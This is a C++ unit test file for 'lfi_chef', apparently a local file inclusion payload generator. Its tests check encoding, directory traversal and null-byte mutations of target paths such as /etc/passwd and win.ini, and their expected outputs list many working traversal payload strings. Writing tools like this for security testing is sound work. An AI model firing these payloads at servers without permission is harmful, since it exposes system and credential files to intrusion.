// SPDX-License-Identifier: MIT
// Project: lfi_chef
// File: tests/mutation_pipeline_tests.cc
// Author: LFI Chef developers
// Copyright (c) 2024 LFI Chef developers

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "lfi_chef/errors.h"
#include "lfi_chef/mutation_pipeline.h"

using namespace lfi_chef;

// ============================================================================
// Test Fixture
// ============================================================================

class MutationPipelineTest : public ::testing::Test
{
protected:
    Config linux_config() const
    {
        Config config;
        config.os = TargetOs::Linux;
        return config;
    }

    Config windows_config() const
    {
        Config config;
        config.os = TargetOs::Windows;
        return config;
    }

    static void use_encodings(Config &config, std::initializer_list<EncodingFamily> families)
    {
        config.encodings = build_encoding_rules(families, config.os);
    }

    static void use_traversal(Config &config, unsigned start, unsigned end)
    {
        config.traversal = TraversalRange{start, end};
        config.traversal_tokens = default_traversal_tokens(config.os);
    }
};

// ============================================================================
// Whole pipeline
// ============================================================================

TEST_F(MutationPipelineTest, NoStagesIsPassthrough)
{
    const auto config = linux_config();
    const MutationPipeline pipeline(config);
    EXPECT_EQ(pipeline.expand("/etc/passwd"), (PayloadSet{"/etc/passwd"}));
    EXPECT_EQ(pipeline.payloads_per_line(), 1u);
}

TEST_F(MutationPipelineTest, UrlEncodingOnlyAddsOneVariant)
{
    auto config = linux_config();
    use_encodings(config, {EncodingFamily::Url});

    const MutationPipeline pipeline(config);
    EXPECT_EQ(pipeline.expand("/etc/passwd"), (PayloadSet{"/etc/passwd", "%2fetc%2fpasswd"}));
}

TEST_F(MutationPipelineTest, StagesComposeMultiplicatively)
{
    auto config = linux_config();
    use_encodings(config, {EncodingFamily::Url});
    use_traversal(config, 1, 1);
    config.null_byte = NullByteMode::Both;

    const MutationPipeline pipeline(config);
    const auto payloads = pipeline.expand("/etc/passwd");

    // (1 + 1 rule) * (1 + 1 depth * 2 tokens) * (1 + 2 null variants)
    EXPECT_EQ(pipeline.payloads_per_line(), 18u);
    const PayloadSet expected = {
        "/etc/passwd",
        "%2fetc%2fpasswd",
        "..//etc/passwd",
        "../%2fetc%2fpasswd",
        "....////etc//passwd",
        "....//%2fetc%2fpasswd",
        "/etc/passwd%00",
        "%00/etc/passwd",
        "%2fetc%2fpasswd%00",
        "%00%2fetc%2fpasswd",
        "..//etc/passwd%00",
        "%00..//etc/passwd",
        "../%2fetc%2fpasswd%00",
        "%00../%2fetc%2fpasswd",
        "....////etc//passwd%00",
        "%00....////etc//passwd",
        "....//%2fetc%2fpasswd%00",
        "%00....//%2fetc%2fpasswd",
    };
    EXPECT_EQ(payloads, expected);
}

TEST_F(MutationPipelineTest, OriginalAlwaysComesFirst)
{
    auto config = windows_config();
    use_encodings(config, {EncodingFamily::Url, EncodingFamily::DoubleUrl, EncodingFamily::Utf16,
                           EncodingFamily::OverlongUtf8});
    use_traversal(config, 2, 3);
    config.null_byte = NullByteMode::Prepend;

    const MutationPipeline pipeline(config);
    for (const std::string original : {"c:\\boot.ini", "windows\\win.ini", "x"})
    {
        const auto payloads = pipeline.expand(original);
        ASSERT_FALSE(payloads.empty());
        EXPECT_EQ(payloads.front(), original);
        EXPECT_EQ(payloads.size(), pipeline.payloads_per_line());
    }
}

TEST_F(MutationPipelineTest, ExpansionFactorOfEveryFamily)
{
    auto config = linux_config();
    use_encodings(config, {EncodingFamily::Url, EncodingFamily::DoubleUrl, EncodingFamily::Utf16,
                           EncodingFamily::OverlongUtf8});
    use_traversal(config, 1, 3);
    config.null_byte = NullByteMode::Both;

    // (1 + 7) * (1 + 3 * 2) * 3
    EXPECT_EQ(expansion_factor(config), 168u);
    EXPECT_EQ(MutationPipeline(config).expand("/etc/hosts").size(), 168u);
}

TEST_F(MutationPipelineTest, CapRejectsOversizedExpansion)
{
    auto config = linux_config();
    use_encodings(config, {EncodingFamily::Url});
    use_traversal(config, 1, 1);
    config.null_byte = NullByteMode::Both;

    config.max_payloads_per_line = 17;
    EXPECT_THROW(MutationPipeline{config}, ValidationError);

    config.max_payloads_per_line = 18;
    EXPECT_NO_THROW(MutationPipeline{config});

    config.max_payloads_per_line = 0;
    EXPECT_NO_THROW(MutationPipeline{config});
}

TEST_F(MutationPipelineTest, TraversalWithoutTokensAddsNothing)
{
    auto config = linux_config();
    config.traversal = TraversalRange{1, 4};

    const MutationPipeline pipeline(config);
    EXPECT_EQ(pipeline.expand("etc/passwd"), (PayloadSet{"etc/passwd"}));
}

// ============================================================================
// Encoding stage
// ============================================================================

TEST_F(MutationPipelineTest, EncodingLeavesColonAloneOffWindows)
{
    const auto rules = build_encoding_rules({EncodingFamily::Url}, TargetOs::Linux);
    const auto payloads = apply_encoding_stage({"a:b/c"}, rules, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"a:b/c", "a:b%2fc"}));
}

TEST_F(MutationPipelineTest, EncodingOnWindowsCoversBackslashPeriodAndColon)
{
    const auto rules = build_encoding_rules({EncodingFamily::Url}, TargetOs::Windows);
    const auto payloads = apply_encoding_stage({"c:\\windows\\win.ini"}, rules, TargetOs::Windows);
    ASSERT_EQ(payloads.size(), 2u);
    EXPECT_EQ(payloads[1], "c%3a%5cwindows%5cwin%2eini");
}

TEST_F(MutationPipelineTest, OverlongProducesThreeVariants)
{
    const auto rules = build_encoding_rules({EncodingFamily::OverlongUtf8}, TargetOs::Linux);
    const auto payloads = apply_encoding_stage({"/a.b"}, rules, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"/a.b", "%c0%afa%c0%2eb", "%e0%80%afa%e0%40%aeb", "%c0%2fa%c0%aeb"}));
}

TEST_F(MutationPipelineTest, EncodingWalksRulesThenPayloads)
{
    const auto rules = build_encoding_rules({EncodingFamily::Url, EncodingFamily::DoubleUrl}, TargetOs::Linux);
    const auto payloads = apply_encoding_stage({"/a", "/b"}, rules, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"/a", "/b", "%2fa", "%2fb", "%252fa", "%252fb"}));
}

TEST_F(MutationPipelineTest, RuleWithAbsentFieldSkipsThatClass)
{
    EncodingRule rule;
    rule.period = "%2e";
    const auto payloads = apply_encoding_stage({"/x.y"}, {rule}, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"/x.y", "/x%2ey"}));
}

TEST_F(MutationPipelineTest, DuplicateVariantsAreKept)
{
    const auto rules = build_encoding_rules({EncodingFamily::Url}, TargetOs::Linux);
    const auto payloads = apply_encoding_stage({"passwd"}, rules, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"passwd", "passwd"}));
}

// ============================================================================
// Traversal stage
// ============================================================================

TEST_F(MutationPipelineTest, SingleDepthProducesOneVariantPerDefaultToken)
{
    const auto tokens = default_traversal_tokens(TargetOs::Linux);
    const auto payloads = apply_traversal_stage({"etc/passwd"}, TraversalRange{1, 1}, tokens, TargetOs::Linux);
    EXPECT_EQ(payloads.size(), 1 + tokens.size());
    EXPECT_EQ(payloads, (PayloadSet{"etc/passwd", "../etc/passwd", "....//etc//passwd"}));
}

TEST_F(MutationPipelineTest, DepthRangeRepeatsClimbToken)
{
    const std::vector<TraversalToken> tokens = {{"../", "/"}};
    const auto payloads = apply_traversal_stage({"etc/passwd"}, TraversalRange{2, 3}, tokens, TargetOs::Linux);
    EXPECT_EQ(payloads, (PayloadSet{"etc/passwd", "../../etc/passwd", "../../../etc/passwd"}));
}

TEST_F(MutationPipelineTest, WindowsTraversalRewritesBackslashes)
{
    const auto tokens = default_traversal_tokens(TargetOs::Windows);
    const auto payloads =
        apply_traversal_stage({"windows\\win.ini"}, TraversalRange{1, 1}, tokens, TargetOs::Windows);
    EXPECT_EQ(payloads,
              (PayloadSet{"windows\\win.ini", "..\\windows\\win.ini", "....\\\\windows\\\\win.ini"}));
}

TEST_F(MutationPipelineTest, CustomSeparatorReplacesNativeOne)
{
    const std::vector<TraversalToken> tokens = {{"..%2f", "%2f"}};
    const auto payloads = apply_traversal_stage({"etc/passwd"}, TraversalRange{1, 2}, tokens, TargetOs::Mac);
    EXPECT_EQ(payloads, (PayloadSet{"etc/passwd", "..%2fetc%2fpasswd", "..%2f..%2fetc%2fpasswd"}));
}

// ============================================================================
// Null byte stage
// ============================================================================

TEST_F(MutationPipelineTest, NullByteModes)
{
    EXPECT_EQ(apply_null_byte_stage({"a"}, NullByteMode::Append), (PayloadSet{"a", "a%00"}));
    EXPECT_EQ(apply_null_byte_stage({"a"}, NullByteMode::Prepend), (PayloadSet{"a", "%00a"}));
    EXPECT_EQ(apply_null_byte_stage({"a", "b"}, NullByteMode::Both),
              (PayloadSet{"a", "b", "a%00", "%00a", "b%00", "%00b"}));
    EXPECT_EQ(apply_null_byte_stage({"a"}, NullByteMode::None), (PayloadSet{"a"}));
}
